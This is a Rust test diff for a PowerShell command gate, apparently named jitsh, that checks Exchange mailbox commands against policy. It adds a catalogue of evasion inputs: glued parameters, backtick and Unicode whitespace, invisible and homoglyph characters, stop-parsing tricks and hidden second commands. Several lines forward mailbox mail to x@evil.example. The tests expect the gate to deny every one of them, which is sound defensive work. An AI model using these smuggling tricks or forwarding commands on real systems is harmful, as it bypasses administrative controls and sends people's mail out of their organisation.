@@ -799,6 +799,187 @@ const CASES: &[(&str, Want, &str)] = &[
         Allow,
         "ordinary output variables",
     ),
+    // --- a token ends at its closing quote or bracket (PowerShell's GetCommandArgument) -------
+    (
+        "Get-Mailbox | Where-Object -Property 'Name'-FilterScript:$sb",
+        Deny,
+        "parameter glued after a single-quoted string",
+    ),
+    (
+        "Get-Mailbox | Where-Object -Property \"Name\"-FilterScript $sb",
+        Deny,
+        "parameter glued after a double-quoted string",
+    ),
+    (
+        "Get-Mailbox | Where-Object -Property $(1)-FilterScript $sb",
+        Deny,
+        "parameter glued after a subexpression",
+    ),
+    (
+        "Get-Mailbox | Where-Object -Property (1)-FilterScript $sb",
+        Deny,
+        "parameter glued after parentheses",
+    ),
+    (
+        "Get-Mailbox | Where-Object -Property @('a')-FilterScript $sb",
+        Deny,
+        "parameter glued after an array subexpression",
+    ),
+    (
+        "Get-Mailbox | Where-Object -Property $x.Name-FilterScript $sb",
+        Deny,
+        "parameter glued after a member access",
+    ),
+    (
+        "Get-Mailbox | Where-Object -Property @'\nName\n'@-FilterScript $sb",
+        Deny,
+        "parameter glued after a here-string",
+    ),
+    (
+        "$ExecutionContext.InvokeCommand | ForEach-Object 'x'-MemberName:InvokeScript -ArgumentList 'Remove-Mailbox bob'",
+        Deny,
+        "ForEach-Object -MemberName glued after a string",
+    ),
+    (
+        "Get-Mailbox | ForEach-Object -Begin 'x'-MemberName Delete",
+        Deny,
+        "ForEach-Object -MemberName glued after a string argument",
+    ),
+    (
+        "Get-Mailbox 'bob'--% | Remove-Mailbox bob",
+        Deny,
+        "stop-parsing glued after a string",
+    ),
+    (
+        "Get-Mailbox -Identity 'bob'>C:\\Windows\\x.ps1",
+        NotAllow,
+        "redirection glued after a string",
+    ),
+    // --- comments and here-strings glued to a token in input that spans lines ----------------
+    (
+        "Get-Mailbox 'a'#'\nRemove-Mailbox bob\n#'",
+        NotAllow,
+        "line comment glued after a string hides nothing",
+    ),
+    (
+        "Get-Mailbox \"a\"#\"\nRemove-Mailbox bob\n#\"",
+        NotAllow,
+        "line comment glued after a double-quoted string",
+    ),
+    (
+        "Get-Mailbox $(1)#'\nRemove-Mailbox bob\n#'",
+        NotAllow,
+        "line comment glued after a subexpression",
+    ),
+    (
+        "Get-Mailbox (1)#'\nRemove-Mailbox bob\n#'",
+        NotAllow,
+        "line comment glued after parentheses",
+    ),
+    (
+        "Get-Mailbox a<#\nRemove-Mailbox bob\n#>",
+        NotAllow,
+        "`<#` inside a word opens no comment",
+    ),
+    (
+        "Get-Mailbox 5<#\nRemove-Mailbox bob\n#>",
+        NotAllow,
+        "`<#` after a number glued into a word opens no comment",
+    ),
+    (
+        "Get-Mailbox<#\nRemove-Mailbox bob\n#>",
+        NotAllow,
+        "`<#` inside a command name opens no comment",
+    ),
+    (
+        "Get-Mailbox -Identity<#\nRemove-Mailbox bob\n#>",
+        NotAllow,
+        "`<#` glued to a parameter name",
+    ),
+    (
+        "Get-Mailbox 'a'@'\n'@\nRemove-Mailbox bob",
+        NotAllow,
+        "here-string glued after a string, then a command",
+    ),
+    (
+        "Get-Mailbox 'a'@\"\n\"@\nRemove-Mailbox bob",
+        NotAllow,
+        "expandable here-string glued after a string, then a command",
+    ),
+    // --- a backtick before white space is white space (Tokenizer.NextToken) ----------------
+    (
+        "Get-Mailbox | Where-Object ` -FilterScript $sb",
+        Deny,
+        "backtick-space before a parameter",
+    ),
+    (
+        "Get-Mailbox | Where-Object `\t-FilterScript $sb",
+        Deny,
+        "backtick-tab before a parameter",
+    ),
+    (
+        "Get-Mailbox | Where-Object `\u{a0}-FilterScript $sb",
+        Deny,
+        "backtick-NBSP before a parameter",
+    ),
+    (
+        "Get-Mailbox | Where-Object `\u{2003}-FilterScript $sb",
+        Deny,
+        "backtick-em-space before a parameter",
+    ),
+    (
+        "Get-Mailbox | Where-Object `\u{3000}-FilterScript $sb",
+        Deny,
+        "backtick-ideographic-space before a parameter",
+    ),
+    (
+        "Get-Mailbox ` ; Remove-Mailbox bob",
+        NotAllow,
+        "backtick-space before a statement separator",
+    ),    // --- control and invisible characters in or around a name -------------------------------
+    ("Remove-Mailbox\u{0} bob", Deny, "NUL after a command name"),
+    ("Remove-Mailbox\u{0}", Deny, "NUL ending the line"),
+    ("Get-MailboxAuditBypassAssociation\u{1}", Deny, "C0 control after a name"),
+    ("Get-MailboxAuditBypassAssociation\u{7f}", Deny, "DEL after a name"),
+    ("Get-MailboxAuditBypassAssociation\u{9b}", Deny, "C1 control after a name"),
+    ("\u{200b}Get-MailboxAuditBypassAssociation", Deny, "zero-width space before a name"),
+    ("Get-MailboxAuditBypassAssociation\u{200d}", Deny, "zero-width joiner after a name"),
+    ("Get-Mailbox\u{feff}AuditBypassAssociation", Deny, "BOM inside a name"),
+    ("Get-MailboxAuditBypassAssociation\u{2060}", Deny, "word joiner after a name"),
+    ("Get-MailboxAuditBypassAssociation\u{202e}", Deny, "direction override after a name"),
+    ("Get-MailboxAuditBypassAssociation\u{ad}", Deny, "soft hyphen after a name"),
+    ("Get-MailboxAuditBypassAssociation`0", Deny, "escaped NUL in a name"),
+    ("Get-MailboxAuditBypassAssociation`a", Deny, "escaped bell in a name"),
+    ("Get-MailboxAuditBypassAssociation`u{200B}", Deny, "escaped zero-width space in a name"),
+    ("& \"Get-MailboxAuditBypassAssociation`0\"", Deny, "escaped NUL in a quoted name"),
+    ("& \"Remove-Mailbox`u{200B}\" bob", Deny, "escaped format character in a quoted name"),
+    ("Get-MailboxAuditBypassAssociatio`u{6e}", NotAllow, "`u{} escape decoded in a name"),
+    ("Get-MailboxAuditBypassAssociation\u{85}", NotAllow, "NEL is white space to PowerShell"),
+    ("Get-MailboxAuditBypassAssociation\u{a0}", NotAllow, "NBSP is white space to PowerShell"),
+    ("Get-MailboxAuditBypassAssociation\u{2028}", NotAllow, "line separator is white space"),
+    ("Get-MailboxAuditBypassAssociation\u{b}", NotAllow, "vertical tab is white space"),
+    ("Set-Mailbox bob -Forwarding\u{200b}SmtpAddress x", Deny, "format character in a parameter"),
+    ("Set-Mailbox bob -Forwarding`u{53}mtpAddress x", Deny, "escape in a parameter name"),
+    ("Get-Mailbox bob\u{0}-Identity x", Deny, "NUL between tokens"),
+    ("Get-Ma\u{131}lboxAuditBypassAssociation", Deny, "dotless i matches `i` in PowerShell's lookup"),
+    ("Remove-Mailbox bob; Get-MailboxAuditBypa\u{17f}\u{17f}Association", Deny, "long s matches `s`"),
+    ("& 'Get-Ma\u{131}lboxAuditBypassAssociation'", Deny, "dotless i in a quoted name"),
+    ("Get-Mailbox | ForEach-Object -ArgumentL\u{131}st x -MemberName Delete", Deny, "dotless i in a parameter"),
+    ("Get-Mailbox -Identity \u{212a}elvin", Allow, "the Kelvin sign in an argument is data"),    // --- stop-parsing `--%`, recognised by its value; its tail ends at `|`, `||`, `&&` -------
+    ("Write-Output --% 'x | Remove-Mailbox bob #'", Deny, "plain stop-parsing"),
+    ("Write-Output `--% 'x | Remove-Mailbox bob #'", Deny, "escaped stop-parsing"),
+    ("Write-Output -`-% 'x | Remove-Mailbox bob #'", Deny, "stop-parsing with an escaped dash"),
+    ("Write-Output '--%' 'x | Remove-Mailbox bob #'", Deny, "single-quoted stop-parsing"),
+    ("Write-Output \"--%\" 'x | Remove-Mailbox bob #'", Deny, "double-quoted stop-parsing"),
+    ("Write-Output \"-`-%\" 'x && Remove-Mailbox bob #'", Deny, "escaped inside quotes"),
+    ("Write-Output @'\n--%\n'@ 'x || Remove-Mailbox bob #'", Deny, "here-string stop-parsing"),
+    ("Write-Output 'a'--% 'x | Remove-Mailbox bob #'", Deny, "stop-parsing glued to a string"),
+    ("Write-Output -- --% 'x | Remove-Mailbox bob #'", Deny, "stop-parsing after end of parameters"),
+    ("& '--%' 'x | Remove-Mailbox bob #'", Deny, "stop-parsing as the command name"),
+    ("Write-Output '--%','y' 'x | Remove-Mailbox bob #'", Deny, "stop-parsing in a list"),
+    ("Write-Output '--%'.Length 'x | Remove-Mailbox bob #'", Deny, "stop-parsing with a member access"),
+    ("Write-Output -InputObject:'--%' 'x | Remove-Mailbox bob #'", Deny, "stop-parsing as a value"),
+    ("Write-Output \u{2013}-% 'x | Remove-Mailbox bob #'", Deny, "stop-parsing with an en dash"),
 ];
 
 fn shipped() -> PolicySet {
@@ -871,4 +1052,125 @@ fn privileged_lines_name_the_deciding_invocation() {
         nested,
         Some((1, "Ne`w-MoveRequest".to_string(), Effect::Approval))
     );
+}
+
+/// Where jitsh follows PowerShell's token boundaries, the parameter a glued token hides is bound.
+#[test]
+fn glued_tokens_show_the_parameter_powershell_binds() {
+    let policies = shipped();
+    let revoked = HashSet::new();
+    let ctx = GateContext {
+        policies: &policies,
+        catalog: Catalog::builtin(),
+        user: "alice",
+        now: time::OffsetDateTime::UNIX_EPOCH,
+        tokens: &[],
+        revoked: &revoked,
+        skew: time::Duration::seconds(30),
+        online: false,
+    };
+    let cases: &[(&str, &str, &str)] = &[
+        (
+            "Set-Mailbox -DisplayName 'Rob'-ForwardingSmtpAddress:x@evil.example",
+            "Set-Mailbox",
+            "-ForwardingSmtpAddress",
+        ),
+        (
+            "Set-Mailbox -DisplayName \"Rob\"-ForwardingSmtpAddress x@evil.example",
+            "Set-Mailbox",
+            "-ForwardingSmtpAddress",
+        ),
+        (
+            "Set-Mailbox bob -DisplayName $(1)-DeliverToMailboxAndForward:$true",
+            "Set-Mailbox",
+            "-DeliverToMailboxAndForward",
+        ),
+        (
+            "Set-Mailbox bob -DisplayName ('Rob')-ForwardingAddress x",
+            "Set-Mailbox",
+            "-ForwardingAddress",
+        ),
+        (
+            "Set-Mailbox bob ` -ForwardingSmtpAddress x@evil.example",
+            "Set-Mailbox",
+            "-ForwardingSmtpAddress",
+        ),
+        (
+            "Get-Mailbox | ForEach-Object 'x'-MemberName:Delete",
+            "ForEach-Object",
+            "-MemberName",
+        ),
+        (
+            "& 'Set-Mailbox'-ForwardingSmtpAddress x@evil.example -Identity bob",
+            "Set-Mailbox",
+            "-ForwardingSmtpAddress",
+        ),
+        (
+            "Set-Mailbox bob -DisplayName $x.Name-ForwardingSmtpAddress x@evil.example",
+            "Set-Mailbox",
+            "-ForwardingSmtpAddress",
+        ),
+        (
+            "$h = @{ \"Forwarding`u{53}mtpAddress\" = 'x@evil.example' }; Set-Mailbox bob @h",
+            "Set-Mailbox",
+            "-ForwardingSmtpAddress",
+        ),
+        (
+            "& \"Set-Mailbo`u{78}\" bob -ForwardingSmtpAddress x@evil.example",
+            "Set-Mailbox",
+            "-ForwardingSmtpAddress",
+        ),
+    ];
+    let mut failures = Vec::new();
+    for (line, name, param) in cases {
+        let d = check_line(line, &ctx);
+        let seen = d
+            .invocations
+            .iter()
+            .any(|i| i.name == *name && i.params.iter().any(|p| p == param));
+        if !seen || d.decision == Effect::Allow {
+            failures.push(format!(
+                "{line:?}: {name} {param} not seen or allowed: {d:?}"
+            ));
+        }
+    }
+    assert!(failures.is_empty(), "{}", failures.join("\n"));
+}
+
+/// A line PowerShell would read as unfinished is reported incomplete and never allowed: the
+/// shell must ask for the rest rather than let pwsh wait for it while later lines go through.
+#[test]
+fn incomplete_lines_are_reported_incomplete() {
+    let policies = shipped();
+    let revoked = HashSet::new();
+    let ctx = GateContext {
+        policies: &policies,
+        catalog: Catalog::builtin(),
+        user: "alice",
+        now: time::OffsetDateTime::UNIX_EPOCH,
+        tokens: &[],
+        revoked: &revoked,
+        skew: time::Duration::seconds(30),
+        online: false,
+    };
+    for line in [
+        "Get-Mailbox 'x'[",
+        "Get-Mailbox \"x\"[",
+        "Get-Mailbox $a[",
+        "Get-Mailbox (1)[",
+        "Get-Mailbox $(1)[",
+        "Get-Mailbox @(",
+        "$a.",
+        "$a.Name.",
+        "[int]::",
+        "[System.Collections.Generic.List[string",
+        "$x = 1 -join",
+        "param(",
+        "begin",
+        "$a ??",
+    ] {
+        let d = check_line(line, &ctx);
+        assert!(d.incomplete, "{line:?} should be incomplete: {d:?}");
+        assert_ne!(d.decision, Effect::Allow, "{line:?}");
+    }
 }
